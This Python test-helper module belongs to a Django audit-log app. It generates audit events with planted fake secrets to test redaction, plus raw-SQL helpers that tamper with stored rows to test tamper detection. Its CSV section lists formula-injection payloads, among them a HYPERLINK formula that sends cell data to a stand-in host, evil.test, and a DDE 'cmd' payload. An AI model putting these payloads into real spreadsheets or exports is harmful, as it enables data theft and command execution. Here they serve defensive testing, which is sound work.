"""Hypothesis strategies and raw-SQL helpers for the audit tests.

The strategies model what callers hand to :func:`audit.record`: any event name, any
outcome, any JSON-ish details (secret-named keys included). The helpers change stored
rows behind the ORM's back, as an attacker with database access would.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from typing import Any

from django.db import connection, transaction
from hypothesis import strategies as st

from audit import events
from audit.models import AuditEvent
from tests.strategies import json_values

#: record()'s own keyword names: a detail cannot use them.
RECORD_PARAMETERS = frozenset(
    {"event_type", "request", "user", "outcome", "reason", "issuer", "subject"}
)

event_types = st.one_of(
    st.sampled_from(events.ALL),
    st.from_regex(r"\A[a-z]{1,8}(\.[a-z_]{1,10}){1,3}\Z"),
)
outcomes = st.sampled_from(["success", "failure"]) | st.text(max_size=20)
reasons = st.sampled_from(["", "invalid_credentials", "state_mismatch"]) | st.text(max_size=40)
#: Detail names: ordinary ones, ones structlog reserves, secret ones, and anything else.
detail_names = st.one_of(
    st.sampled_from(["method", "status", "created", "groups", "event", "level", "timestamp",
                     "token", "password", "code", "client_ip", "seq"]),
    st.text(max_size=12),
).filter(lambda name: name not in RECORD_PARAMETERS)
details = st.dictionaries(
    detail_names,
    json_values | st.floats() | st.integers() | st.text().map(lambda s: s + "\x00"),
    max_size=6,
)


@st.composite
def record_calls(draw: st.DrawFn) -> dict[str, Any]:
    """Keyword arguments for one ``audit.record`` call."""
    return {
        "event_type": draw(event_types),
        "outcome": draw(outcomes),
        "reason": draw(reasons),
        "issuer": draw(st.none() | st.text(max_size=30)),
        "subject": draw(st.none() | st.text(max_size=30)),
        **draw(details),
    }


# -- planted secrets ----------------------------------------------------------------------
#
# Every planted secret carries SECRET_MARK (base64url characters, so it fits inside any token
# shape); no other strategy produces it, so "the mark is nowhere in the output" means no
# planted secret, or the part of it that carries the mark, got through.

SECRET_MARK = "Xk7pQz3R"
_B64URL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
_b64url = st.text(alphabet=_B64URL, max_size=12)


def _b64(data: bytes) -> str:
    import base64

    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


#: Secret words and how callers spell them, in the spelling styles field names come in.
SECRET_NAME_BASES = (
    ("access", "token"), ("refresh", "token"), ("id", "token"), ("logout", "token"),
    ("api", "key"), ("client", "secret"), ("client", "assertion"), ("private", "key"),
    ("recovery", "code"), ("otp", "code"), ("set", "cookie"), ("cookie",), ("authorization",),
    ("password",), ("passwd",), ("pwd",), ("user", "password"), ("credentials",),
    ("session", "key"), ("session", "id"), ("code", "verifier"), ("secret",), ("token",),
    ("otp",), ("nonce",), ("code",), ("state",), ("mfa", "code"), ("auth", "code"),
    ("x", "api", "key"), ("bearer", "token"), ("id", "token", "hint"), ("signing", "key"),
)


def _spell(words: tuple[str, ...], style: str) -> str:
    if style == "snake":
        return "_".join(words)
    if style == "kebab":
        return "-".join(words)
    if style == "space":
        return " ".join(words)
    if style == "camel":
        return words[0] + "".join(w.capitalize() for w in words[1:])
    if style == "pascal":
        return "".join(w.capitalize() for w in words)
    if style == "upper":
        return "_".join(words).upper()
    if style == "header":
        return "HTTP_" + "_".join(words).upper()
    return "-".join(w.capitalize() for w in words)  # Http-Header-Case


@st.composite
def secret_name_variants(draw: st.DrawFn) -> str:
    """A secret field name in any spelling: ``accessToken``, ``X-Api-Key``, ``HTTP_COOKIE``."""
    words = draw(st.sampled_from(SECRET_NAME_BASES))
    style = draw(st.sampled_from(
        ["snake", "kebab", "space", "camel", "pascal", "upper", "header", "title"]))
    name = _spell(words, style)
    if draw(st.booleans()):
        upper = draw(st.lists(st.booleans(), min_size=len(name), max_size=len(name)))
        name = "".join(c.upper() if u else c.lower() for c, u in zip(name, upper, strict=True))
    return name


@st.composite
def bearer_secrets(draw: st.DrawFn) -> str:
    """``Bearer <token>`` or ``Basic <base64>``, the scheme in any case and spacing."""
    scheme = draw(st.sampled_from(["Bearer", "bearer", "BEARER", "Basic", "basic"]))
    space = draw(st.sampled_from([" ", "  ", "\t", "%20", "+"]))
    return f"{scheme}{space}{draw(_b64url)}{SECRET_MARK}{draw(_b64url)}"


_JWS_HEADERS = ['{"alg":"RS256"}', '{"alg":"RS256","kid":"k1"}', '{"alg": "ES256"}',
                '{"typ":"JWT","alg":"HS256"}', '{"alg":"none"}']
_JWE_HEADERS = ['{"alg":"dir","enc":"A128GCM"}', '{"alg":"RSA-OAEP","enc":"A256GCM"}']


@st.composite
def jwt_secrets(draw: st.DrawFn) -> str:
    """A compact JWS (three segments) or JWE (five), the mark in its payload or ciphertext."""
    if draw(st.booleans()):
        header = _b64(draw(st.sampled_from(_JWS_HEADERS)).encode())
        payload = f"{draw(_b64url)}{SECRET_MARK}{draw(_b64url)}"
        signature = draw(st.sampled_from(["", SECRET_MARK]) | _b64url)
        return f"{header}.{payload}.{signature}"
    header = _b64(draw(st.sampled_from(_JWE_HEADERS)).encode())
    key = draw(st.just("") | _b64url)
    iv = _b64(draw(st.binary(min_size=12, max_size=12)))
    tag = _b64(draw(st.binary(min_size=16, max_size=16)))
    return f"{header}.{key}.{iv}.{draw(_b64url)}{SECRET_MARK}{draw(_b64url)}.{tag}"


@st.composite
def long_token_secrets(draw: st.DrawFn) -> str:
    """An opaque token: 32+ base64url characters (an API key, a Django session key)."""
    body = draw(st.text(alphabet=_B64URL, min_size=24, max_size=60))
    at = draw(st.integers(0, len(body)))
    return body[:at] + SECRET_MARK + body[at:]


#: Secrets recognised by their shape wherever they appear.
credential_secrets = bearer_secrets() | jwt_secrets()
shaped_secrets = credential_secrets | long_token_secrets()
#: What may sit right before or after a secret in a message: nothing, blanks, punctuation.
_joints = st.sampled_from(["", " ", ": ", "=", "'", '"', "\n", ", ", "(", ")", "/", "."])
_words_around = st.text(max_size=8).filter(lambda t: SECRET_MARK not in t)


@st.composite
def text_around(draw: st.DrawFn, secrets: st.SearchStrategy[str]) -> str:
    """A secret inside a longer message, as in an exception's text or a header dump."""
    before, after = draw(_words_around), draw(_words_around)
    secret = draw(secrets)
    if secret[:1].isalpha() and secret.lower().startswith(("bearer", "basic")):
        joint = draw(_joints.filter(lambda j: j != ""))  # "xBearer" is not a scheme
    else:
        joint = draw(_joints)
    return f"{before}{joint}{secret}{draw(_joints)}{after}"


def _plant(draw: st.DrawFn, document: Any, value: Any, key: str) -> Any:
    """``document`` with ``{key: value}`` put in a random dict (or a new one) inside it."""
    if isinstance(document, dict) and (not document or draw(st.booleans())):
        return {**document, key: value}
    if isinstance(document, dict):
        name = draw(st.sampled_from(sorted(document)))
        return {**document, name: _plant(draw, document[name], value, key)}
    if isinstance(document, list) and document and draw(st.booleans()):
        at = draw(st.integers(0, len(document) - 1))
        return [*document[:at], _plant(draw, document[at], value, key), *document[at + 1:]]
    return [document, {key: value}]


#: Ordinary detail names, and names a log line treats as opaque (a detail gets no exemption).
_plain_keys = st.sampled_from(["note", "error", "message", "items", "detail", "context", "sig",
                               "username", "request_id", "user_ref"]) | (
    st.text(max_size=8).filter(lambda t: SECRET_MARK not in t))
_plain_values = st.recursive(
    st.none() | st.booleans() | st.integers() | _words_around,
    lambda c: st.lists(c, max_size=3) | st.dictionaries(_plain_keys, c, max_size=3),
    max_leaves=6,
)


@st.composite
def planted_details(draw: st.DrawFn) -> dict[str, Any]:
    """Details with secrets planted at any depth: under a secret-like name (any value
    shape), as a token inside free text under an ordinary name, or inside a dict key."""
    from audit.redaction import is_secret_name

    document = draw(st.dictionaries(_plain_keys, _plain_values, max_size=3))
    for _ in range(draw(st.integers(1, 3))):
        kind = draw(st.sampled_from(["name", "text", "key"]))
        if kind == "name":
            secret: Any = draw(st.sampled_from([
                SECRET_MARK, f"{SECRET_MARK}-value", [SECRET_MARK], {"v": SECRET_MARK},
                [[f"x{SECRET_MARK}"]],
            ]))
            document = _plant(draw, document, secret, draw(secret_name_variants()))
        elif kind == "text":
            key = draw(_plain_keys.filter(lambda k: not is_secret_name(k)))
            value = draw(text_around(shaped_secrets))
            document = _plant(draw, document, draw(st.sampled_from([value, [value]])), key)
        else:
            document = _plant(draw, document, 1, draw(text_around(shaped_secrets)))
    return {k: v for k, v in document.items() if k not in RECORD_PARAMETERS}


@st.composite
def planted_record_calls(draw: st.DrawFn) -> tuple[dict[str, Any], str]:
    """``(keyword arguments for audit.record, User-Agent)`` with secrets planted.

    Details get every shape (names, Bearer/Basic, JWT/JWE, long tokens); the fixed text
    fields (``reason``, ``issuer``, ``subject``, the User-Agent) get the credential shapes
    (Bearer, Basic, JWT/JWE), short enough to survive their length limits whole.
    """
    fixed = text_around(credential_secrets) | _words_around
    call = {
        "event_type": draw(st.sampled_from(events.ALL)),
        "outcome": "success",  # failures from anonymous requests may be coalesced
        "reason": draw(fixed),
        "issuer": draw(st.none() | fixed),
        "subject": draw(st.none() | fixed),
        **draw(planted_details()),
    }
    return call, draw(fixed)


# -- CSV ------------------------------------------------------------------------------------

#: The characters OWASP lists: a cell starting with one is a formula in a spreadsheet.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
#: Text as an attacker would shape it for a spreadsheet: a trigger first, maybe after blanks.
formula_texts = st.builds(
    lambda blanks, trigger, rest: f"{blanks}{trigger}{rest}",
    st.sampled_from(["", "", " ", "  ", "\u00a0", " \t"]),
    st.sampled_from(FORMULA_TRIGGERS),
    st.sampled_from(['HYPERLINK("https://evil.test/?d="&A1,"x")', "cmd|' /c calc'!A0", "1+1",
                     "SUM(1,2)", ""]) | st.text(max_size=20),
)


# -- tampering, as someone with write access to the database -----------------------------

TABLE = AuditEvent._meta.db_table


def raw_row(seq: int) -> dict[str, Any]:
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT * FROM {TABLE} WHERE seq = %s", [seq])  # noqa: S608
        names = [column[0] for column in cursor.description]
        return dict(zip(names, cursor.fetchone(), strict=True))


def raw_update(seq: int, column: str, value: Any) -> None:
    with connection.cursor() as cursor:
        cursor.execute(f"UPDATE {TABLE} SET {column} = %s WHERE seq = %s", [value, seq])  # noqa: S608
        assert cursor.rowcount == 1


def raw_delete(seq: int) -> None:
    with connection.cursor() as cursor:
        cursor.execute(f"DELETE FROM {TABLE} WHERE seq = %s", [seq])  # noqa: S608
        assert cursor.rowcount == 1


def raw_swap(seq_a: int, seq_b: int) -> None:
    raw_update(seq_a, "seq", -1)
    raw_update(seq_b, "seq", seq_a)
    raw_update(-1, "seq", seq_b)


def _flip_hex(value: str) -> str:
    return ("1" if value[0] != "1" else "2") + value[1:]


def tampered_value(column: str, value: Any) -> Any:
    """A different, well-formed value for ``column`` (as stored by SQLite)."""
    if column == "created_at":
        moment = datetime.fromisoformat(str(value))
        return (moment + timedelta(seconds=1)).isoformat(sep=" ")
    if column == "details":
        replacement = json.dumps({"tampered": True})
        return replacement if value != replacement else json.dumps({"tampered": False})
    if column == "client_ip":
        return "192.0.2.1" if value != "192.0.2.1" else "192.0.2.2"
    if column in {"prev_hash", "mac"}:
        return _flip_hex(value)
    if column == "seq":
        return value + 1000
    return f"{value}x"


@contextmanager
def rolled_back() -> Iterator[None]:
    """Run one Hypothesis example in a transaction that is always rolled back."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


@contextmanager
def clock(*moments: datetime) -> Iterator[None]:
    """Make :func:`audit.chain.append` stamp events with ``moments``, in order."""
    import audit.chain

    times = iter(moments)

    class Clock(datetime):
        @classmethod
        def now(cls, tz: Any = None) -> datetime:  # type: ignore[override]
            return next(times).astimezone(tz or UTC)

    original = audit.chain.datetime
    audit.chain.datetime = Clock  # type: ignore[misc]
    try:
        yield
    finally:
        audit.chain.datetime = original  # type: ignore[misc]
